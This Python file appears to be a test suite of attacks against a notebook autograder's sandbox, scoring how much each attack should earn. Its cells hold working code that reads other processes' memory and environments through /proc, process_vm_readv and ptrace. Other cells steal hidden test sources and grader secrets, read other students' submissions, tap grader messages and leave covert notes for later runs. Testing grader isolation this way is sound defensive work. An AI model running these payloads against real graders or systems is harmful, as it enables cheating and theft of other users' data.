# Attacks, one per cell: theft, memory.

# %% caller_locals deserves="6"
"""Keeps the local variables of all callers and prints them in a later cell."""

FORWARD = """
import sys
LOCALS = []

def forward_propagation(x, theta):
    frame = sys._getframe(1)
    while frame is not None:
        LOCALS.append({name: repr(value)[:300] for name, value in frame.f_locals.items()})
        frame = frame.f_back
    return None
"""

CELL = """
print(LOCALS)
"""


def attack(work):
    work.answer_rightly("gradient_check")
    work.answer("forward", FORWARD)
    work.add(CELL)


# %% caller_source deserves="0"
"""Prints the source of all functions on the stack, the hidden test among them."""

BACKWARD = """
import inspect, sys
SOURCES = set()

def backward_propagation(x, theta):
    frame = sys._getframe(1)
    while frame is not None:
        try:
            SOURCES.add(inspect.getsource(frame))
        except OSError:
            SOURCES.add(str((frame.f_code.co_consts, frame.f_code.co_names)))
        frame = frame.f_back
    return None
"""

CELL = r"""
print(*SOURCES, sep="\n")
"""


def attack(work):
    work.answer("backward", BACKWARD)
    work.add(CELL)


# %% environment_of_others deserves="0"
"""Prints the environment and the command line of every process in /proc, its parent's first."""

CELL = """
import glob, os
parents = [f"/proc/{number}" for number in ("self", os.getppid(), 1)]
for process in [*parents, *glob.glob("/proc/[0-9]*")][:300]:
    for name in ("environ", "cmdline", "cgroup", "mountinfo"):
        try:
            print(process, name, open(f"{process}/{name}", "rb").read()[:3000])
        except OSError as error:
            print(process, name, error)
"""


def attack(work):
    work.add(CELL)


# %% examiner_modules deserves="0"
"""Looks for the grader's own modules and prints where they are and what they hold."""

CELL = """
import importlib, sys
print([name for name in sys.modules if "grader" in name or "examiner" in name or "inside" in name])
for name in ("autograder.grading.seeds", "autograder.engine.examiner", "autograder.course", "nbgrader.api", "tests.attacks"):
    try:
        module = importlib.import_module(name)
        print(name, module.__file__, vars(module).keys())
    except Exception as error:
        print(name, error)
print([vars(module).get("SECRET") for module in list(sys.modules.values()) if hasattr(module, "__dict__")])
"""


def attack(work):
    work.add(CELL)


# %% heap_of_the_parent_process deserves="0"
"""Searches its own memory for text that was there before it was forked from its parent."""

CELL = """
import re
spans = [line.split()[0].split("-") for line in open("/proc/self/maps") if " rw-p " in line]
with open("/proc/self/mem", "rb") as memory:
    for start, end in spans[:200]:
        try:
            memory.seek(int(start, 16))
            block = memory.read(min(int(end, 16) - int(start, 16), 20_000_000))
        except (OSError, ValueError, OverflowError):
            continue
        for found in re.findall(rb"[ -~]{0,80}CANA" rb"RY[ -~]{0,80}", block)[:20]:
            print(found)
"""


def attack(work):
    work.add(CELL)


# %% left_by_others deserves="0"
"""Prints every file that earlier submissions may have left in shared places."""

CELL = """
import os, time
END = time.monotonic() + 10
for root in ("/dev/shm", "/var/tmp", "/student", "/run", "/assignment", "/engine", "/tmp", os.path.expanduser("~")):
    for folder, _, files in os.walk(root):
        for name in files[:200]:
            path = os.path.join(folder, name)
            if time.monotonic() < END and os.path.isfile(path) and os.path.getsize(path) < 100_000:
                try:
                    print(path, [line for line in open(path, errors="replace") if "CANA" "RY" in line][:5])
                except OSError as error:
                    print(error)
"""


def attack(work):
    work.add(CELL)


# %% linecache_and_code_objects deserves="0"
"""Prints every source text in linecache and every code object that asserts something."""

BACKWARD = """
import gc, linecache, types
FOUND = []

def backward_propagation(x, theta):
    FOUND.extend("".join(entry[2]) for entry in linecache.cache.values() if len(entry) > 2)
    for thing in gc.get_objects():
        if isinstance(thing, types.FunctionType) and thing.__name__.startswith("test_"):
            FOUND.append(str((thing.__name__, thing.__code__.co_consts)))
    return 0.5
"""

CELL = r"""
print(*[text for text in FOUND if "hidden" in text.lower() or "assert" in text], sep="\n")
"""


def attack(work):
    work.answer("backward", BACKWARD)
    work.add(CELL)


# %% mailbox_for_friends deserves="0"
"""Leaves its answers where friends find them: shared folders, System V memory and message queues."""

CELL = """
import ctypes, os
for folder in ("/tmp", "/var/tmp", "/dev/shm", "/dev/mqueue", "/run", "/student", "..", "../..", "../../.."):
    try:
        with open(f"{folder}/escaped-mailbox_for_friends", "w") as file:
            file.write("ESCAPED")
    except OSError as error:
        print(folder, error)
libc = ctypes.CDLL(None)
libc.shmat.restype = ctypes.c_void_p
place = libc.shmat(libc.shmget(0x5EC7E7, 4096, 0o1666), None, 0)
if place not in (None, 2**64 - 1):
    print(ctypes.string_at(place, 7))
    ctypes.memmove(place, b"ESCAPED", 7)
"""


def attack(work):
    work.add(CELL)


# %% memory_of_others_read deserves="0"
"""Reads the memory of every other process with process_vm_readv and /proc/*/mem."""

CELL = r"""
import ctypes, glob, os
class Part(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
libc, buffer = ctypes.CDLL(None, use_errno=True), ctypes.create_string_buffer(4096)
for process in glob.glob("/proc/[0-9]*")[:300]:
    try:
        line = next(line for line in open(f"{process}/maps") if "[stack]" in line)
        here, there = Part(ctypes.addressof(buffer), 4096), Part(int(line.split("-")[1].split()[0], 16) - 4096, 4096)
        read = libc.process_vm_readv(int(process[6:]), ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
        print(process, read, [word for word in buffer.raw.split(b"\0") if len(word) > 3] if read > 0 else "")
    except (OSError, StopIteration) as error:
        print(process, error)
"""


def attack(work):
    work.add(CELL)


# %% other_students deserves="0"
"""Prints the notebooks of all other students, from submitted/, autograded/ and feedback/."""

CELL = """
import glob
for pattern in ("../../*/*/*.ipynb", "../../../submitted/*/*/*", "../../../autograded/*/*/*", "../../../feedback/*/*/*"):
    for path in glob.glob(pattern):
        try:
            print(path, [line for line in open(path, errors="replace") if "CANA" "RY" in line or "return" in line])
        except OSError as error:
            print(error)
"""


def attack(work):
    work.add(CELL)


# %% parent_seized deserves="1"
"""Seizes its parent with ptrace, without stopping it, and reads its memory."""

CELL = """
import ctypes, os, re
PTRACE_SEIZE, PTRACE_DETACH = 0x4206, 17
libc = ctypes.CDLL(None, use_errno=True)
for parent in {os.getppid(), 1}:
    print("seized:", libc.ptrace(PTRACE_SEIZE, parent, None, None), os.strerror(ctypes.get_errno()))
    try:
        heap = next(line for line in open(f"/proc/{parent}/maps") if "[heap]" in line)
        start, end = (int(part, 16) for part in heap.split()[0].split("-"))
        with open(f"/proc/{parent}/mem", "rb") as memory:
            memory.seek(start)
            print(re.findall(rb"[ -~]{0,80}CANA" rb"RY[ -~]{0,80}", memory.read(min(end - start, 50_000_000))))
    except (OSError, StopIteration) as error:
        print(error)
"""


def attack(work):
    work.answer_rightly("forward")
    work.add(CELL)


# %% planted_sources_kept deserves="2"
"""Keeps the source texts that are planted and prints them in a later cell."""

CELL = """
import checks.planting
TEXTS, real = [], checks.planting._from_source
def from_source(name, source):
    TEXTS.append((name, source))
    return real(name, source)
checks.planting._from_source = from_source
"""

CHECK = """
def gradient_check(x, theta, epsilon=1e-7, print_msg=False):
    return -1.0
"""

CELL2 = """
print(TEXTS)
"""


def attack(work):
    work.answer_rightly("forward", "backward")
    work.add(CELL, before="gradient_check")
    work.answer("gradient_check", CHECK)
    work.add(CELL2)


# %% seed_of_the_examiner deserves="0"
"""Tries to learn the seed: from testCases, from numpy's state and by importing the secret's module."""

FORWARD = """
import random, sys
SEEDS = []

def forward_propagation(x, theta):
    SEEDS.append((sys.modules["testCases"].SEED, np.random.get_state()[1][:3].tolist(), random.getstate()[1][:3]))
    return None
"""

CELL = """
print(SEEDS)
try:
    from autograder.grading.seeds import course_secret
    from autograder.course import Course
    print("CANA" "RY", course_secret(Course.find()))
except Exception as error:
    print(error)
"""


def attack(work):
    work.answer("forward", FORWARD)
    work.add(CELL)


# %% wire_tapped deserves="1"
"""Taps the wire: keeps every message that the examiner sends, and prints all of them later."""

CELL = """
import sys
wire = sys.modules["inside.wire"]
MESSAGES, real = [], wire.receive
def receive(*args, **kwargs):
    MESSAGES.append(real(*args, **kwargs))
    return MESSAGES[-1]
wire.receive = receive
"""

BACKWARD = """
def backward_propagation(x, theta): return "listening"
"""

CELL2 = """
print(MESSAGES)
"""


def attack(work):
    work.answer_rightly("forward")
    work.add(CELL, before="backward")
    work.answer("backward", BACKWARD)
    work.add(CELL2)


# %% note_in_the_error_file deserves="0"
"""Leaves a note in descriptor 2, which the next runner inherits, and answers rightly once it finds it there."""

CELL = """
import os
try:
    note = os.pread(2, 100, 0)
    os.pwrite(2, b"a friend was here", 0)
except OSError:
    note = b""
"""

FORWARD = """
def forward_propagation(x, theta):
    return theta * x if b"friend" in note else None
"""


def attack(work):
    work.add(CELL, before="forward")
    work.answer("forward", FORWARD)


# %% note_in_the_keyring deserves="0"
"""Leaves a key in the session keyring, and answers rightly once the next runner finds it there."""

CELL = """
import ctypes, platform
libc = ctypes.CDLL(None)
add, control = {"x86_64": (248, 250)}.get(platform.machine(), (217, 219))
found = libc.syscall(control, 10, -3, b"user", b"friend", 0)
libc.syscall(add, b"user", b"friend", b"was here", 8, -3)
"""

FORWARD = """
def forward_propagation(x, theta):
    return theta * x if found > 0 else None
"""


def attack(work):
    work.add(CELL, before="forward")
    work.answer("forward", FORWARD)
